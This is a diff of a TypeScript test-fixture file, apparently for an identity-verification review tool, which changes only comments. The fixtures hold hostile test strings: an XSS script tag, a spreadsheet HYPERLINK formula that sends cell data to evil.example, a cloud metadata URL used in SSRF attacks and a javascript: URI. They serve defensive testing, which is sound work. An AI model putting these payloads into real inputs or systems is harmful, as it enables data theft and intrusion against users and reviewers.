@@ -12,7 +12,7 @@ const hostileFile = (trick: Trick) => new SpecimenFile({ kind: 'hostile', trick 
 
 const latin = { latinFirst: 'HOSTILE', latinLast: 'SPECIMEN' };
 
-/** Strings that bite: in names, numbers, aliases, devices, reasons. */
+/** Hostile strings in names, numbers, aliases, devices, reasons. */
 const nasty = {
   script: '<script>alert(document.domain)</script>',
   formula: '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -23,7 +23,7 @@ const nasty = {
   long: 'ab cdefgh '.repeat(30),
 };
 
-/** What no user should be able to do to a reviewer. */
+/** Attacks of a user on a reviewer. */
 export function hostileSituations(todayMs: number): Session[] {
   const named = (name: string, known: PersonOptions, more: Partial<IndividualOptions> = {}) =>
     individual({
@@ -135,7 +135,7 @@ export function hostileSituations(todayMs: number): Session[] {
   ];
 }
 
-/** None of them is on anybody's list of media hosts. */
+/** None of these hosts is on a list of media hosts. */
 const foreignAddresses = [
   'http://169.254.169.254/latest/meta-data/',
   'https://evil.example/passport.jpg',
@@ -144,7 +144,7 @@ const foreignAddresses = [
   'javascript:alert(1)',
 ];
 
-/** What the contract does not know yet: it may appear at any time (field notes). */
+/** Step types and keys beyond the contract, which may appear at any time (field notes). */
 export function unknownSituations(todayMs: number): Session[] {
   const made = (tag: string, options: Partial<IndividualOptions>) =>
     individual({ seed: tag, todayMs, tags: [tag], steps: approved('ID_DOCUMENT', 'LIVENESS'), ...options });
